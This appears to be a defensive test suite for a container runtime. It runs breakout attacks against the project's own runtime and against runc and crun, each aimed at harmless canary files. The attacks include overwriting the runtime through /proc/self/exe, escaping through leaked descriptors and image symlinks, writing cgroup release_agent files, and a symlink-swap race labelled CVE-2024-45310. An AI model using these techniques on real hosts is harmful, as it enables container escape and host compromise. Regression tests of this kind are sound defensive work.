"""Attacks on a low-level runtime, each as a function of a bundle: what it returns are the breaches it made.

Every one is harmless where it succeeds: what it reaches for are canaries beside the bundle.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import tare_runtime

from tests.support.bundles import TARE_RUNTIME, Bundle, make_rootfs

Attack = Callable[["Target"], list[str]]
SECRET = "the host's own"


# crun 1.8 refuses a host that mounts cgroup v2 beside v1.
_WITHOUT_UNIFIED = [
    "unshare", "--mount", "sh", "-c",
    'while umount -l /sys/fs/cgroup/unified 2>/dev/null; do :; done; exec "$@"', "sh",
]  # fmt: skip


class Target(Bundle):
    """A bundle, and a runtime that is to run it: ours, or a copy of a peer's program."""

    def __init__(self, path: Path, name: str) -> None:
        super().__init__(path)
        make_rootfs(self.rootfs)
        self.name = name
        self.program = TARE_RUNTIME
        if name != "tare-runtime":
            found = shutil.which(name)
            assert found
            self.program = str(shutil.copy(found, path / name))
            self.config["ociVersion"] = "1.0.2"
        self.canary = path / "canary"
        self.canary.mkdir()
        (self.canary / "file").write_text(SECRET)

    def command(self, *args: str) -> list[str]:
        prefix = _WITHOUT_UNIFIED if self.name == "crun" else []
        return [*prefix, self.program, "--root", str(self.root), *args]

    def touched(self) -> list[str]:
        """What is not as it was in the canary."""
        found = [str(path) for path in self.canary.rglob("*") if path != self.canary / "file"]
        if (self.canary / "file").read_text() != SECRET:
            found.append("the canary's file was written")
        return found

    def start(self, *args: str) -> None:
        self.args(*args)
        done = self.create()
        assert done.returncode == 0, done.stderr
        assert self.tare("start", self.id).returncode == 0

    def delete(self) -> None:
        self.tare("delete", "--force", self.id)

    def hashes(self) -> dict[str, str]:
        """Of every file that the runtime is made of."""
        files = [Path(self.program)]
        if self.name == "tare-runtime":
            package = Path(tare_runtime.__file__).parent
            files += [Path(sys.executable).resolve(), package / "init", *package.glob("*.so")]
        return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}


# --- who the runtime is ----------------------------------------------------------------------------------


def overwrite_the_runtime(target: Target) -> list[str]:
    before = target.hashes()
    target.args("/proc/self/exe", "--version").run()
    for link in ("bin/self", "bin/true-self"):
        (target.rootfs / link).symlink_to("/proc/self/exe")
    target.args("/bin/self").run()
    writer = """
      while [ ! -e /stop ]; do
        for p in /proc/[0-9]*; do
          [ $p = /proc/1 ] || { echo x >> $p/exe; } 2>/dev/null && [ $p != /proc/1 ] && echo $p >> /wrote
        done
      done"""
    target.start("sh", "-c", writer)
    for number in range(8):
        target.tare("exec", target.id, "/bin/self" if number % 2 else "true")
    (target.rootfs / "stop").touch()
    target.delete()
    after = target.hashes()
    found = [f"{path} was overwritten" for path in before if before[path] != after[path]]
    if (target.rootfs / "wrote").exists():
        found.append("an executable was opened for writing: " + (target.rootfs / "wrote").read_text())
    return found


def leave_by_a_leaked_directory(target: Target) -> list[str]:
    found = []
    up = "../" * 12 + str(target.canary / "file")
    target.script(f"cat {up} {up.replace('..', '../..')}")
    for number in (3, 6, 7, 8, 9, 11):
        for base in ("/proc/self/fd", "/proc/1/fd"):
            target.config["process"]["cwd"] = f"{base}/{number}"
            if SECRET in target.run().stdout:
                found.append(f"run with cwd {base}/{number} reads the host's files")
    (target.rootfs / "link").symlink_to("/proc/self/fd/7")
    target.config["process"]["cwd"] = "/link"
    if SECRET in target.run().stdout:
        found.append("run with cwd through an image's link reads the host's files")
    target.config["process"]["cwd"] = "/"
    target.start("sleep", "60")
    for number in (3, 6, 7, 8, 9, 11):
        done = target.tare("exec", "--cwd", f"/proc/self/fd/{number}", target.id, "cat", up)
        if SECRET in done.stdout:
            found.append(f"exec with cwd /proc/self/fd/{number} reads the host's files")
    fds = target.tare("exec", target.id, "ls", "/proc/self/fd").stdout.split()
    if set(fds) - {"0", "1", "2", "3"}:  # 3 is the directory that ls reads
        found.append(f"exec leaves {fds} open")
    target.delete()
    return found


def keep_inheritable_capabilities(target: Target) -> list[str]:
    target.start("sleep", "60")
    done = target.tare("exec", "--cap", "CAP_NET_RAW", target.id, "cat", "/proc/self/status")
    target.delete()
    line = next(line for line in done.stdout.splitlines() if line.startswith("CapInh"))
    return [] if int(line.split()[1], 16) == 0 else [line]


def become_root_by_a_user_without_a_group(target: Target) -> list[str]:
    target.start("sleep", "60")
    found = []
    for words, wanted in {"1": "1", "1:2": "1", "01": "1", "65534": "65534"}.items():
        done = target.tare("exec", "--user", words, target.id, "id", "-u")
        if done.returncode == 0 and done.stdout.strip() != wanted:
            found.append(f"--user {words} is {done.stdout.strip()}")
    for words in ("-1", "4294967296", ":", "1:", ":1", "4294967295", "x", "1:x", "1:2:3", " 1", "1 "):
        done = target.tare("exec", f"--user={words}", target.id, "id", "-u")
        if done.returncode == 0 and done.stdout.strip() == "0" and words[:1] != ":":
            found.append(f"--user {words!r} is root")
    target.delete()
    return found


# --- what the root file system leads to ------------------------------------------------------------------


def replace(target: Target, name: str, link: str | Path) -> None:
    (target.rootfs / name).rmdir()
    (target.rootfs / name).symlink_to(link)


def fill_a_directory_of_the_host_by_dev(target: Target) -> list[str]:
    replace(target, "dev", target.canary)
    target.config["mounts"] = [m for m in target.config["mounts"] if not m["destination"].startswith("/dev")]
    target.run()
    return target.touched()


def fill_a_directory_of_the_host_by_a_mount(target: Target) -> list[str]:
    replace(target, "etc", target.canary)
    target.config["mounts"].append(
        {"destination": "/etc/made", "type": "bind", "source": "/etc/hostname", "options": ["bind"]}
    )
    target.run()
    return target.touched()


def mount_proc_elsewhere(target: Target) -> list[str]:
    found = []
    for name in ("proc", "sys"):
        (target.rootfs / "elsewhere").mkdir(exist_ok=True)
        replace(target, name, "elsewhere")
        done = target.script(
            "grep -c /elsewhere /proc/self/mountinfo /elsewhere/self/mountinfo; echo ran"
        ).run()
        if "ran" in done.stdout:
            found.append(f"runs with /{name} as a link")
        (target.rootfs / name).unlink()
        (target.rootfs / name).mkdir()
    return found


def without_dev(target: Target) -> None:
    target.config["mounts"] = [m for m in target.config["mounts"] if not m["destination"].startswith("/dev")]


def unmask_by_a_null_device_of_the_image(target: Target) -> list[str]:
    without_dev(target)
    (target.rootfs / "dev/null").symlink_to("/etc/victim")
    (target.rootfs / "etc/victim").write_text("victim")
    (target.rootfs / "etc/hidden").write_text("hidden")
    target.config["linux"]["maskedPaths"] = ["/etc/hidden"]
    # Through files: runc's standard streams go astray with the null device.
    target.script("cat /etc/hidden > /shown; echo written > /etc/hidden; cat /etc/hidden >> /shown").write()
    with (target.path / "output").open("w") as output:
        subprocess.run(
            target.command("run", target.id), cwd=target.path, stdin=subprocess.DEVNULL, stdout=output,
            stderr=output, timeout=30,
        )  # fmt: skip
    shown = target.rootfs / "shown"
    text = shown.read_text() if shown.exists() else ""
    found = [f"a masked file shows {word}" for word in ("victim", "hidden", "written") if word in text]
    if (target.rootfs / "etc/victim").read_text() != "victim":
        found.append("the target of /dev/null was written through the mask")
    return found


def move_the_console_by_a_link_of_the_image(target: Target) -> list[str]:
    without_dev(target)
    (target.rootfs / "dev/pts").mkdir()
    target.config["mounts"].append(
        {
            "destination": "/dev/pts",
            "type": "devpts",
            "source": "devpts",
            "options": ["newinstance", "ptmxmode=0666"],
        }
    )
    (target.rootfs / "etc/victim").write_text("victim")
    (target.rootfs / "dev/console").symlink_to("/etc/victim")
    target.config["process"]["terminal"] = True
    target.script("cat /proc/self/mountinfo > /mounts").write()
    subprocess.run(
        ["script", "-qec", " ".join(target.command("run", target.id)), "/dev/null"],
        cwd=target.path,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
    )
    shown = target.rootfs / "mounts"
    if shown.exists() and " /etc/victim " in shown.read_text():
        return ["the console was mounted where the image's link leads to"]
    return []


def write_sysctls_to_a_false_proc(target: Target) -> list[str]:
    target.config["mounts"] = [m for m in target.config["mounts"] if m["destination"] != "/proc"]
    target.config["linux"]["maskedPaths"] = []
    target.config["linux"]["readonlyPaths"] = []
    false = target.rootfs / "proc/sys/net/ipv4"
    false.mkdir(parents=True)
    (false / "ip_forward").symlink_to("/etc/victim")
    (target.rootfs / "etc/victim").write_text("victim")
    target.config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    target.run()
    if (target.rootfs / "etc/victim").read_text() != "victim":
        return ["a sysctl was written into a file of the image"]
    return []


def overflow_the_message_of_mappings(target: Target) -> list[str]:
    linux = target.config["linux"]
    linux["namespaces"].append({"type": "user"})
    maps = [{"containerID": number, "hostID": 100000 + number, "size": 1} for number in range(6000)]
    linux["uidMappings"], linux["gidMappings"] = maps, maps
    done = target.script("cat /proc/self/uid_map; echo ran").run()
    if "ran" in done.stdout and len(done.stdout.splitlines()) != 6001:
        return ["runs with other mappings than the config's"]
    return []


def write_to_the_host_s_cgroups(target: Target) -> list[str]:
    linux = target.config["linux"]
    linux["namespaces"].append({"type": "user"})
    maps = [{"containerID": 0, "hostID": 0, "size": 65536}]
    linux["uidMappings"], linux["gidMappings"] = maps, maps
    target.config["mounts"].append(
        {"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup", "options": ["nosuid"]}
    )
    name = f"breach-{target.id}"
    done = target.script(
        f"for d in /sys/fs/cgroup/*; do mkdir $d/{name} 2>/dev/null && echo made $d; done; "
        "for f in /sys/fs/cgroup/*/release_agent; do echo /x > $f && echo wrote $f; done 2>/dev/null"
    ).run()
    found = [line for line in done.stdout.splitlines() if "wrote" in line]
    for folder, names, _ in os.walk("/sys/fs/cgroup"):
        if name in names:
            with suppress(OSError):
                (Path(folder) / name).rmdir()
    return found


# --- races -----------------------------------------------------------------------------------------------

_SWAP = """
import ctypes, sys
exchange = ctypes.CDLL(None, use_errno=True).renameat2
one, two = (word.encode() for word in sys.argv[1:])
print("go", flush=True)
while not exchange(-100, one, -100, two, 2):
    pass
"""


def make_mount_targets_on_the_host(target: Target) -> list[str]:
    """CVE-2024-45310: the directory that a target is made in is a link to the host at times."""
    volume = target.path / "volume"
    (volume / "in").mkdir(parents=True)
    (volume / "trap").symlink_to(target.canary)
    target.config["mounts"] += [
        {"destination": "/v", "type": "bind", "source": str(volume), "options": ["bind"]},
        *(
            {"destination": f"/v/in/new{number}/er", "type": "tmpfs", "source": "tmpfs"}
            for number in range(6)
        ),
    ]
    target.args("true").write()
    with subprocess.Popen(
        [sys.executable, "-c", _SWAP, str(volume / "in"), str(volume / "trap")], stdout=subprocess.PIPE
    ) as swapper:
        assert swapper.stdout
        swapper.stdout.readline()
        try:
            for _ in range(80 if target.name == "runc" else 20):
                target.run()
                for path in volume.glob("*/new*"):
                    shutil.rmtree(path, ignore_errors=True)
                if target.touched():
                    break
        finally:
            swapper.kill()
    return target.touched()
